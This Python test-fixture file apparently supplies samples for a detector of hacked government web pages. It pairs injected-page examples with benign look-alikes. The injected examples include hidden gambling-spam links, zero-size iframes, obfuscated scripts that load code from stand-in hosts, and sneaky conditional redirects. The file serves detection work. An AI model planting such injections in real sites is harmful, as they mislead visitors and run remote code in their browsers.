"""A third planted set, written after the second was met and before anything was changed for it."""

from collections.abc import Iterator

from safety_cases_hacked import Hacked

_GLASS = '<a href="http://www.boli-chang.example/">钢化玻璃厂家</a>'
_TRIPS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (
        ("lvyou-a", "自由行"),
        ("qianzheng", "签证代办"),
        ("jipiao", "特价机票"),
        ("jiudian", "酒店预订"),
    )
)


def bad() -> Iterator[Hacked]:
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    yield Hacked(
        "list pushed up", hidden, body=f'<ul style="position:absolute;top:-3456px"><li>{_GLASS}</li></ul>'
    )
    yield Hacked(
        "box of half a pixel",
        hidden,
        body=f'<div style="overflow:hidden;height:0.5px;width:900px">{_GLASS}</div>',
    )
    yield Hacked(
        "legacy font",
        hidden,
        body=f'<table bgcolor="white"><tr><td><font color="white" size="1">{_GLASS}</font></td></tr></table>',
    )
    yield Hacked(
        "important",
        hidden,
        head="<style>.o9{text-indent:-9999em !important}</style>",
        body=f'<p class="o9">{_GLASS}</p>',
    )
    yield Hacked(
        "marquee over nothing",
        hidden,
        body=f"<marquee scrolldelay='1' scrollamount='7777' width='0'>{_TRIPS}</marquee>",
    )
    yield Hacked(
        "jquery hides",
        hidden,
        body=f"<div id='nn3'>{_TRIPS}<a href='http://www.bcw33.example/'>六合彩开奖</a></div><script>$('#nn3').hide();</script>",
    )
    yield Hacked(
        "layer without height",
        hidden,
        body=f'<div style="height:0;line-height:0;overflow:hidden;display:block">{_GLASS}</div>',
    )
    yield Hacked(
        "text in a hidden heading",
        hidden,
        body="<h2 style='display:none'>澳门金沙 皇冠投注 真人百家乐 注册送彩金</h2>",
    )
    yield Hacked("links before the page", hidden, body="", tail=f"\n\n<div>{_TRIPS}</div>")
    yield Hacked(
        "frame two pixels high",
        script,
        body='<iframe src="http://k.xmt.example/go" height="2" width="2" frameborder="0" scrolling="no"></iframe>',
    )
    yield Hacked(
        "frame written as letters",
        script,
        body="<script>document.write('<ifr'+'ame src=\"http://k.xmt.example/go\" width=0 height=0></ifr'+'ame>')</script>",
    )
    yield Hacked(
        "script put in by hex",
        script,
        body="<script>eval(\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\\x2e\\x77\\x72\\x69\\x74\\x65('<script src=//cdn.bet365x.example/a.js></scr'+'ipt>')\")</script>",
    )
    yield Hacked(
        "only on weekdays at night",
        away,
        body="<script>var h=new Date().getHours();if(h>18||h<8){window.location.href='http://m.yeban.example/'}</script>",
    )
    yield Hacked(
        "only once by cookie",
        away,
        body="<script>if(document.cookie.indexOf('v=1')<0){document.cookie='v=1';setTimeout(\"top.location.href='http://m.yici.example/a'\",800)}</script>",
    )
    yield Hacked(
        "refresh after a while",
        away,
        head="<meta http-equiv='refresh' content='5; URL=\"https://www.qita.example/\"'>",
    )
    yield Hacked(
        "only from engines, by list",
        script,
        body="<script>var f=['baidu','so.com','sogou','bing'];for(var i=0;i<f.length;i++){if(document.referrer.indexOf(f[i])>-1){document.write('<script src=\"http://j.laile.example/b.js\"><\\/script>')}}</script>",
    )
    yield Hacked(
        "description of a bookmaker",
        spam,
        head='<meta name="description" content="华体会·(中国)官方网站提供体育投注平台、真人视讯、电子娱乐城，官方入口安全稳定。">',
    )
    yield Hacked("title in full width", spam, title="ＢＥＴ３６５官网入口-青田县")
    yield Hacked(
        "visible link to a bookmaker",
        spam,
        body='<p>友情链接：<a href="http://www.yabo-vip.example/">亚博体育</a></p>',
    )
    yield Hacked(
        "brand behind a number",
        spam,
        body="<p>今年以来，全县新增高新技术企业12家，开云体育官方入口 工业增加值增长8.1%。</p>",
    )
    for title in (
        "mk体育(中国)官方网站-网页版登录入口|青田县人民政府",
        "星空综合体育（中国）官方网站 - 手机APP下载 - 青田县教育局",
        "青田县人民政府_开元棋牌官网_彩票注册送38元",
    ):
        yield Hacked(f"named as such brands are, {title[:4]}", spam, title=title)
    yield Hacked(
        "properties in brackets and escapes",
        away,
        body='<script>window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]["\\x68\\x72\\x65\\x66"]="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x78\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65"</script>',
    )
    yield Hacked(
        "packed",
        away,
        body="""<script>eval(function(p,a,c,k,e,d){e=String;while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1="2://3.4/"',5,5,'location|href|http|zhuan|example'.split('|'),0,{}))</script>""",
    )
    yield Hacked(
        "frame of nothing in percent signs",
        script,
        body='<script>document.write(unescape("%3Ciframe%20src%3D%22http%3A//zhuan.example/%22 width%3D0 height%3D0%3E%3C/iframe%3E"))</script>',
    )
    yield Hacked(
        "script that a missing picture brings in",
        script,
        body="""<img src=x onerror="var s=document.createElement('script');s.src='http://zhuan.example/j.js';document.body.appendChild(s)">""",
    )
    yield Hacked(
        "script of a throw-away domain at an odd port",
        script,
        body='<script src="http://js.tongjiyun.top:8080/x.js?id=88"></script>',
    )
    yield Hacked(
        "frame over the whole page",
        script,
        body='<iframe src="https://zhanwai.example:8989/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;border:0"></iframe>',
    )
    yield Hacked(
        "hidden by the oldest way to name an element",
        hidden,
        body=f'<span id="k4v">{_TRIPS}</span><script>document.all.k4v.style.display="none"</script>',
    )
    yield Hacked("article about a show", spam, title="成人视频免费观看完整版_县委书记调研_青田县人民政府")


def innocent() -> Iterator[Hacked]:
    yield Hacked(
        "menu of the oldest browsers",
        body=f'<div id="m2">{_TRIPS}</div><script>function a(){{document.all.m2.style.display="none"}}function b(){{document.all.m2.style.display="block"}}</script>',
    )
    yield Hacked(
        "picture instead of a missing one",
        body="""<img src="/p.jpg" onerror="this.onerror=null;this.src='http://tuku.example/none.png'">""",
    )
    yield Hacked(
        "packed roller",
        body="""<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('$(3).2(1(){0("#roll")})',4,4,'init|function|ready|document'.split('|'),0,{}))</script>""",
    )
    yield Hacked(
        "counter written as all of them are",
        body="""<script>document.write(unescape("%3Cscript src='https://tj.fuwushang.example/c.js' type='text/javascript'%3E%3C/script%3E"))</script>""",
    )
    yield Hacked(
        "helper in a corner",
        body='<iframe src="https://zhushou.example/chat" style="position:fixed;right:0;bottom:0;width:360px;height:600px;border:0"></iframe>',
    )
    yield Hacked(
        "screen of a partner",
        body='<iframe src="https://dapin.example/s" style="width:100%;height:100%" frameborder="0"></iframe>',
    )
    yield Hacked(
        "maker of the system",
        body='<a href="http://www.hanweb.com" style="display:none">Produced By 大汉网络 大汉版通发布系统</a>',
    )
    for title, text in (
        ("泉山体育（中国）有限公司中标公告_通知公告_青田县体育局", "中标单位：泉山体育（中国）有限公司。"),
        ("“青田体育”APP上线_青田县体育局官方网站", "“青田体育”APP正式上线，市民可预订场馆。"),
        ("全民健身棋牌大赛报名_青田县体育总会", "全县棋牌比赛开始报名，设象棋、围棋项目。"),
    ):
        yield Hacked(f"sport: {title[:8]}", title=title, body=f"<p>{text}</p>")
    yield Hacked(
        "address in a script by click",
        body="<script>function open1(){location.href='http://www.zaixian.example/apply'}</script><a onclick='open1()'>在线申请</a>",
    )
    yield Hacked(
        "night mode",
        body="<script>var h=new Date().getHours();if(h>18||h<8){document.body.className='night'}</script>",
    )
    yield Hacked(
        "notice once by cookie",
        body="<script>if(document.cookie.indexOf('v=1')<0){document.cookie='v=1';setTimeout(function(){document.getElementById('tip').style.display='block'},800)}</script>",
    )
    yield Hacked(
        "old browsers led away",
        body="<script>if(/MSIE [678]/.test(navigator.userAgent)){location.href='/upgrade.html'}</script>",
    )
    yield Hacked(
        "hidden player", body='<div style="height:0;overflow:hidden"><object data="/v.swf"></object></div>'
    )
    yield Hacked(
        "code of a picture",
        body='<a href="http://www.wenlv.example/"><img style="opacity:0" src="/h.png" alt="文旅"></a><a href="http://www.wenlv.example/">文旅集团</a>',
    )
    yield Hacked(
        "collapsed panel",
        head="<style>.collapse{display:none}.collapse.show{display:block}</style>",
        body=f'<div class="collapse">{_TRIPS}</div>',
    )
    yield Hacked(
        "accordion by height",
        head="<style>.acc{max-height:0;overflow:hidden;transition:.3s}.acc.open{max-height:500px}</style>",
        body=f'<div class="acc">{_GLASS}</div>',
    )
    yield Hacked(
        "hover card",
        head="<style>.card .more{opacity:0}.card:hover .more{opacity:1}</style>",
        body=f'<div class="card"><div class="more">{_GLASS}</div></div>',
    )
    yield Hacked(
        "off canvas for phones",
        body=f'<div class="m-menu" style="transform:translateX(-100%)">{_GLASS}</div>',
    )
    yield Hacked("template with a partner", body=f"<template>{_TRIPS}</template>")
    yield Hacked(
        "text area with code",
        body="<textarea style='display:none'>&lt;a href='http://www.bb.example/'&gt;分享&lt;/a&gt;</textarea>",
    )
    yield Hacked(
        "lazy frame",
        body="<iframe data-src='http://www.shipin.example/v' src='about:blank' width='1' height='1'></iframe>",
    )
    yield Hacked(
        "video of a partner",
        body='<iframe src="https://www.shipin.example/embed/3" width="640" height="360" allowfullscreen></iframe>',
    )
    yield Hacked("count of visits", body='<script src="https://tongji.fuwu.example/hits.php?id=9"></script>')
    yield Hacked(
        "statistics behind the end",
        tail='<script>var _paq=_paq||[];(function(){var u="//piwik.fuwu.example/";var g=document.createElement("script");g.src=u+"piwik.js";document.head.appendChild(g)})()</script>',
    )
    yield Hacked(
        "police on betting",
        body="<p>警方提示：网络赌博是违法犯罪，百家乐、老虎机、六合彩等均属诈骗陷阱，请勿点击“注册送彩金”等链接。</p>",
        title="警惕网络赌博陷阱_青田县公安局",
    )
    yield Hacked(
        "lottery office",
        title="中国体育彩票、福利彩票销售网点公示_青田县民政局",
        body="<p>本年度体育彩票公益金使用情况公告。</p>",
    )
    yield Hacked(
        "white text on green",
        body=f'<div style="background-color:#0a6"><span style="color:#fff">{_GLASS}</span></div>',
    )
    yield Hacked("title with separators", title="首页·政务公开·通知公告_青田县人民政府")
    yield Hacked(
        "sample in base64",
        body="<script>var logo=atob('5pS/5bqc572R56uZ5qCH5b+X5Zu+54mH');document.title=logo;</script>",
    )
